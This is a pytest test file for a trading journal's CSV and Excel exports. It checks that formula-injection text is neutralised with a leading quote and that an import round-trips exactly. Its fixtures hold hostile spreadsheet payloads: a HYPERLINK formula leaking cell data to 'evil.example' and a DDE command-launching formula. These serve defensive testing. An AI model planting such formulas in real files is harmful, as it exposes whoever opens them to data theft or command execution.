"""Formula injection (issue 11, item 8): the exports write text cells that a spreadsheet would run with
a leading quote (OWASP's rule: ``=``, ``+``, ``-``, ``@``, tab, CR first); numbers stay numbers; the
import of the journal's own CSV removes exactly the quote its export added, so a round trip changes
nothing. On PostgreSQL the CSV is written by COPY: the same rule in SQL."""

from __future__ import annotations

import csv
import io
from decimal import Decimal as D

import pytest
from rest_framework.test import APIClient

from journal import spreadsheet
from journal.import_services import import_commit
from journal.models import Trade
from journal.serializers import TRADE_COLUMNS
from journal.services import record_trade
from tests.helpers import NOW, trade_fields, user_with_role

pytestmark = pytest.mark.django_db

# The examples, and the other characters of the rule.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
SUM = "+SUM(1+1)"
TEXTS = {
    "F-1": {"notes": HYPERLINK, "strategy_name": CMD, "tags": [SUM]},
    "F-2": {"notes": "@SUM(A1:A9)", "signal_reason": "-2+3", "exit_reason": "\tindented"},
    "F-3": {"notes": "\r=1+1", "signal_reason": "'=already quoted", "exit_reason": "''+two quotes"},
    "F-4": {"notes": "'plain quote", "signal_reason": "a = b", "exit_reason": "fine"},
}


def _naive_escape(text: str) -> str:
    """The rule written out again: strip leading quotes; a trigger after them means one more quote."""
    rest = text.lstrip("'")
    return "'" + text if rest[:1] in ("=", "+", "-", "@", "\t", "\r") and rest else text


@pytest.mark.parametrize(
    "text",
    ["", "'", "''", "=", "'=", "''=", "a", "'a", "-5", "'-5", "@", "\t", "\r\n", "x=1", "'''@x", "+"],
)
def test_escape_follows_the_rule_and_unescape_is_its_exact_inverse(text):
    assert spreadsheet.escape(text) == _naive_escape(text)
    assert spreadsheet.unescape(spreadsheet.escape(text)) == text


@pytest.fixture
def trades():
    out = []
    for trade_id, texts in TEXTS.items():
        loss = trade_id == "F-2"
        out.append(
            record_trade(
                now=NOW,
                **trade_fields(
                    trade_id=trade_id,
                    exit_price=D("80") if loss else D("120"),
                    exit_type="STOP_LOSS" if loss else "TARGET",
                    **texts,
                ),
            )
        )
    return out


@pytest.fixture
def api():
    client = APIClient()
    client.force_authenticate(user_with_role("trader"))
    return client


def _body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content) if response.streaming else response.content


def _rows(body: bytes) -> dict[str, dict]:
    return {row["trade_id"]: row for row in csv.DictReader(io.StringIO(body.decode()))}


def test_csv_export_quotes_every_text_cell_a_spreadsheet_would_run(api, trades):
    rows = _rows(_body(api.get("/api/trades/export.csv")))
    assert rows["F-1"]["notes"] == "'" + HYPERLINK
    assert rows["F-1"]["strategy_name"] == "'" + CMD
    assert rows["F-1"]["tags"] == "'+sum(1+1)"  # tags are stored lower-case
    assert rows["F-2"]["notes"] == "'@SUM(A1:A9)"
    assert rows["F-2"]["signal_reason"] == "'-2+3"
    assert rows["F-2"]["exit_reason"] == "'\tindented"
    assert rows["F-3"]["notes"] == "'\r=1+1"
    assert rows["F-3"]["signal_reason"] == "''=already quoted"
    assert rows["F-3"]["exit_reason"] == "'''+two quotes"
    # Text that no spreadsheet runs is left alone, a lone leading quote included.
    assert rows["F-4"]["notes"] == "'plain quote"
    assert rows["F-4"]["signal_reason"] == "a = b"
    # Numbers stay numbers, negative ones included.
    loss = Trade.objects.get(trade_id="F-2")
    assert loss.net_pnl < 0 and rows["F-2"]["net_pnl"] == str(loss.net_pnl)
    assert rows["F-2"]["gross_pnl"].startswith("-") and rows["F-2"]["mae"] == ""
    for row in rows.values():
        for name in ("net_pnl", "gross_pnl", "entry_price", "strike_price", "quantity"):
            D(row[name])  # parses as a number: never quoted


def test_excel_export_quotes_the_same_cells_and_keeps_numbers_numeric(api, trades):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(_body(api.get("/api/trades/export.xlsx"))))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert tuple(header) == TRADE_COLUMNS
    by_id = {row[0].row: row for row in sheet.iter_rows(min_row=2)}
    rows = {r[header.index("trade_id")].value: r for r in by_id.values()}
    col = header.index
    assert rows["F-1"][col("notes")].value == "'" + HYPERLINK
    assert rows["F-1"][col("strategy_name")].value == "'" + CMD
    assert rows["F-1"][col("tags")].value == "'+sum(1+1)"
    assert rows["F-2"][col("signal_reason")].value == "'-2+3"
    assert rows["F-3"][col("signal_reason")].value == "''=already quoted"
    for row in rows.values():
        for cell in row:
            assert cell.data_type != "f"  # no formula anywhere
    net = rows["F-2"][col("net_pnl")]
    assert cell_is_number(net) and net.value == float(Trade.objects.get(trade_id="F-2").net_pnl) < 0


def cell_is_number(cell) -> bool:
    return cell.data_type == "n" and isinstance(cell.value, int | float)


def test_import_of_the_export_removes_exactly_the_quotes_it_added(api, trades):
    columns = [c for c in TRADE_COLUMNS if c not in ("id", "created_at", "updated_at", "origin")]
    before = {t["trade_id"]: t for t in Trade.objects.values(*columns)}
    exported = _body(api.get("/api/trades/export.csv"))
    Trade.objects.all().delete()
    result = import_commit(content=exported, filename="journal.csv")
    assert result.added == len(TEXTS)
    after = {t["trade_id"]: t for t in Trade.objects.values(*columns)}
    assert after == before
    for trade_id, texts in TEXTS.items():
        trade = Trade.objects.get(trade_id=trade_id)
        for name, value in texts.items():
            got = trade.tag_list if name == "tags" else getattr(trade, name)
            assert got == ([t.lower() for t in value] if name == "tags" else value), (trade_id, name)
    # ...and exporting again gives the same file, but for the new rows' ids and times of writing.
    skip = ("id", "created_at", "updated_at", "origin")

    def comparable(body):
        return {k: {n: v for n, v in row.items() if n not in skip} for k, row in _rows(body).items()}

    assert comparable(_body(api.get("/api/trades/export.csv"))) == comparable(exported)
